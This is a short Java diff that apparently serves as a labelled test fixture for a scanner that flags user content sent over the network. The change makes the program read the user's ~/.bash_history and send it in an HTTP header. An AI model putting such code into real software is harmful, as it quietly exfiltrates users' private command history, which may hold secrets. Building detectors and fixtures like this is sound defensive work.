@@ -4,12 +4,12 @@ import java.net.URL;
 import java.nio.file.Files;
 import java.nio.file.Path;
 
-/** A file that the user names is sent. */
+/** The history of the shell is sent. */
 public class Flagged {
     public static void main(String[] arguments) throws IOException {
         HttpURLConnection connection = connection();
-        String notes = Files.readString(Path.of(arguments[0]));
-        connection.setRequestProperty("X-Notes", notes); // finding: user-content-sent, form plain
+        String history = Files.readString(Path.of(System.getProperty("user.home"), ".bash_history"));
+        connection.setRequestProperty("X-History", history); // finding: user-content-sent, form plain
         connection.getInputStream().close();
     }
 
